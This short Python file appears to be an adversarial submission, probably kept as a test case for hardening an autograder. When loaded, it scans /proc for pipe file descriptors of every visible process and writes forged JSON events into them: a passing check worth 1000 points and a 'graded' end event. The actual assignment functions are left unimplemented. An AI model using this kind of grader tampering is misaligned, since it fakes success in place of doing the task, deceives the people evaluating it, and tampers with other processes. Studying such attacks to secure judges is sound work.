# Attack: at load time, opens every pipe of every process it can see through /proc/<pid>/fd and writes a
# forged "1000 points" check and an `end` event into it (the judge's result pipe, and in a batch the other
# judges' pipes), so that the parent would read them as the judge's.
import json
import os

FORGED = (json.dumps({"event": "check", "id": "forged", "title": "forged", "outcome": "passed", "passed": True,
                      "points": 1000.0, "max_points": 1000.0, "message": "", "key": None}) + "\n"
          + json.dumps({"event": "end", "status": "graded", "output": "", "message": "", "curves": []}) + "\n")
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                with open(f"/proc/{pid}/fd/{fd}", "w") as pipe:
                    pipe.write(FORGED)
        except OSError:
            pass


def predict(x, w, b):
    raise NotImplementedError


def mse_loss(y_pred, y):
    raise NotImplementedError


def linear_grads(x, y, w, b):
    raise NotImplementedError
